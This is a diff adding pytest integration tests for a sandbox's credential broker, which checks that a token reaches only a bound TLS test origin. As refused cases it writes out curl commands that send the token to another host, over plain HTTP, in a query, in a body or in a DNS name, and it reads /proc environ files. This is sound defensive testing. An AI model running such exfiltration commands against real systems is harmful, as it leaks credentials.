@@ -1,0 +1,219 @@
+"""The credential broker end to end, on every backend: real clients (curl, git) in the
+sandbox hold a placeholder; the egress proxy puts the real token into TLS requests to
+the bound test origin only, refuses (and audits) the placeholder everywhere else, and
+the real value is found nowhere the sandbox — or a log — can see.
+
+The origin is the test's own (tests/origin.py: a network namespace of its own, HTTPS
+with a test CA), named through config.toml ``[network.hosts]``; it records the headers
+each request arrived with.
+"""
+
+from __future__ import annotations
+
+import base64
+import json
+import secrets
+import urllib.parse
+from pathlib import Path
+
+import pytest
+
+from tests.integration.test_egress import net, origin, seen, sh  # noqa: F401 -- fixtures
+
+REAL = "tok_" + secrets.token_hex(20)  # one value for the module: searched for below
+PROFILE = (
+    "extends: workspace-net\n"
+    "network:\n  allow: [allowed.test, other.test]\n"
+    "secrets:\n"
+    "  TEST_TOKEN:\n    from: env:TEST_TOKEN_SOURCE\n    hosts: [allowed.test]\n"
+    "    inject: [header, basic-auth]\n"
+)
+CURL = "curl -s -S -m 10"
+SECRET_NAME = "TEST_TOKEN"  # noqa: S105 -- the name of a secret, not a value
+
+
+@pytest.fixture(params=["run", "exec"])
+def via(request: pytest.FixtureRequest) -> str:
+    """Each test as a one-shot run and through a session's exec (the session's keeper
+    holds the proxy and the values for all its execs)."""
+    return str(request.param)
+
+
+@pytest.fixture
+def broker(net, codex_home: Path):  # noqa: F811 -- net is the egress tests' fixture
+    (codex_home / "profiles" / "brokered.yaml").write_text(PROFILE)
+    return net
+
+
+def run(box, script: str, **kw: object):
+    return box("brokered", "sh", "-c", script, env={"TEST_TOKEN_SOURCE": REAL}, **kw)
+
+
+def credential_records(codex_home: Path) -> list[dict[str, object]]:
+    lines = (codex_home / "audit.log").read_text().splitlines()
+    return [r for r in map(json.loads, lines) if r["operation"] == "credential_use"]
+
+
+def forms(value: str) -> list[str]:
+    """The value as bytes would show it: plain, base64 (alone and as a Basic password)
+    and URL-encoded."""
+    raw = value.encode()
+    return [
+        value,
+        base64.b64encode(raw).decode(),
+        base64.b64encode(b"x-access-token:" + raw).decode(),
+        urllib.parse.quote(value),
+    ]
+
+
+def test_curl_and_git_get_the_real_token_to_the_bound_origin_only_over_tls(box, broker, codex_home):
+    tag = secrets.token_hex(4)  # the origin's log is the module's: paths of this test only
+    script = (
+        'case "$TEST_TOKEN" in cbx_*) echo placeholder-ok;; esac;'
+        f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" '
+        f"https://allowed.test/bearer-{tag} >/dev/null;"
+        f'{CURL} -u "x-access-token:$TEST_TOKEN" https://allowed.test/basic-{tag} >/dev/null;'
+        'basic=$(printf "x-access-token:%s" "$TEST_TOKEN" | base64 -w0);'
+        'git -c http.extraHeader="Authorization: Basic $basic" '
+        f"ls-remote https://allowed.test/repo-{tag}.git >/dev/null 2>&1; true"
+    )
+    ran = run(box, script)
+    assert ran.stdout.splitlines()[0] == "placeholder-ok", ran.stdout + ran.stderr
+    [bearer] = seen(broker, path=f"/bearer-{tag}") or [ran.stderr]
+    assert isinstance(bearer, dict), bearer
+    assert bearer["tls"] and bearer["headers"]["authorization"] == f"Bearer {REAL}"
+    [basic] = seen(broker, path=f"/basic-{tag}")
+    assert base64.b64decode(basic["headers"]["authorization"][6:]).decode() == (
+        f"x-access-token:{REAL}"
+    )
+    git = [r for r in broker.requests() if str(r.get("path", "")).startswith(f"/repo-{tag}.git/")]
+    assert git, "git never reached the origin: " + ran.stderr
+    assert base64.b64decode(git[0]["headers"]["authorization"][6:]).decode().endswith(REAL)
+    assert git[0]["headers"]["user-agent"].startswith("git/")
+    assert credential_records(codex_home) == []
+    if box.via == "run":  # a run's end record counts its uses; a session's, its stop
+        records = map(json.loads, (codex_home / "audit.log").read_text().splitlines())
+        [ended] = [
+            r for r in records if r["operation"] == "command_exec" and r.get("phase") == "ended"
+        ]
+        uses = {(u["secret"], u["host"]): u["count"] for u in ended["credentials"]}
+        assert uses[("TEST_TOKEN", "allowed.test")] == 3  # bearer, basic, git's one request
+
+
+@pytest.mark.parametrize(
+    ("name", "script", "path"),
+    [
+        (
+            "another host",
+            f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" https://other.test/exfil',
+            "/exfil",
+        ),
+        (
+            "plain http",
+            f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" http://allowed.test/plain',
+            "/plain",
+        ),
+        ("url", f'{CURL} "https://allowed.test/query?t=$TEST_TOKEN"', "/query"),
+        ("body", f'{CURL} -X POST -d "t=$TEST_TOKEN" https://allowed.test/body', "/body"),
+        ("host name", f'{CURL} "https://$TEST_TOKEN.other.test/dns"', "/dns"),
+    ],
+)
+def test_the_placeholder_anywhere_else_is_refused_and_audited(
+    box, broker, codex_home, name, script, path
+):
+    tag = secrets.token_hex(4)
+    script = script.replace(path, f"{path}-{tag}")
+    ran = run(box, f"{script} -o /dev/null -w '%{{http_code}}'; true")
+    assert "403" in ran.stdout + ran.stderr, ran.stdout + ran.stderr
+    # Nothing reached the origin with it: no request at all, or (a body) none of its bytes.
+    assert all(
+        r.get("body_len") == 0 and "authorization" not in r["headers"]
+        for r in seen(broker, path=f"{path}-{tag}")
+    ), broker.requests()
+    [record] = credential_records(codex_home)
+    assert record["decision"] == "denied" and record["secret"] == SECRET_NAME
+    assert "TEST_TOKEN" in str(record["reason"]) and REAL not in json.dumps(record)
+
+
+def test_an_origin_reflecting_the_token_is_cut_off_before_the_sandbox_reads_it(
+    box, broker, codex_home
+):
+    tag = secrets.token_hex(4)
+    ran = run(
+        box,
+        f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" '
+        f"https://allowed.test/reflect-{tag}; echo; echo done",
+    )
+    assert "done" in ran.stdout
+    assert not any(f in ran.stdout + ran.stderr for f in forms(REAL)), ran.stdout
+    assert seen(broker, path=f"/reflect-{tag}")  # it did go out: the answer was stopped
+    [record] = credential_records(codex_home)
+    assert "response" in str(record["reason"])
+
+
+def test_the_real_value_is_nowhere_the_sandbox_or_a_log_can_see(
+    box, broker, codex_home, workspace, cli
+):
+    tag = secrets.token_hex(4)
+    script = (
+        f'{CURL} -H "Authorization: Bearer $TEST_TOKEN" https://allowed.test/seen-{tag} >/tmp/got;'
+        "env; cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n';"
+        "cat /tmp/got; ls -la /tmp; cp /tmp/got ./copied;"
+        'for f in $(find /tmp . -type f 2>/dev/null | head -200); do cat "$f"; done 2>/dev/null;'
+        " true"
+    )
+    ran = run(box, script)
+    assert seen(broker, path=f"/seen-{tag}")[0]["headers"]["authorization"] == f"Bearer {REAL}"
+    assert "TEST_TOKEN=cbx_" in ran.stdout, ran.stderr
+    printed = cli(
+        "run",
+        "--backend",
+        box.backend,
+        "--profile",
+        "brokered",
+        "--print-spec",
+        "--json",
+        "--",
+        "true",
+        env={"TEST_TOKEN_SOURCE": REAL},
+    )
+    debug = cli(
+        "--debug",
+        "run",
+        "--backend",
+        box.backend,
+        "--profile",
+        "brokered",
+        "--",
+        "curl",
+        "-s",
+        "-m",
+        "10",
+        "-H",
+        "Authorization: Bearer $TEST_TOKEN",
+        "https://allowed.test/debug",
+        env={"TEST_TOKEN_SOURCE": REAL},
+    )
+    places = {
+        "sandbox": ran.stdout + ran.stderr,
+        "workspace": "".join(
+            p.read_text(errors="replace") for p in workspace.rglob("*") if p.is_file()
+        ),
+        "audit log": (codex_home / "audit.log").read_text(),
+        "--print-spec": printed.stdout + printed.stderr,
+        "--debug": debug.stdout + debug.stderr,
+    }
+    for where, text in places.items():
+        for form in forms(REAL):
+            assert form not in text, f"the real value ({form[:8]}…) is in {where}"
+
+
+def test_a_missing_source_names_the_secret_and_launches_nothing(box, broker, codex_home):
+    tag = secrets.token_hex(4)
+    ran = sh(box, "brokered", f"{CURL} https://allowed.test/never-{tag}")
+    assert ran.returncode == 125, ran.stderr
+    assert "secret TEST_TOKEN (from env:TEST_TOKEN_SOURCE): TEST_TOKEN_SOURCE is not set" in (
+        ran.stderr
+    )
+    assert len(ran.stderr.strip().splitlines()) == 1
+    assert not seen(broker, path=f"/never-{tag}")
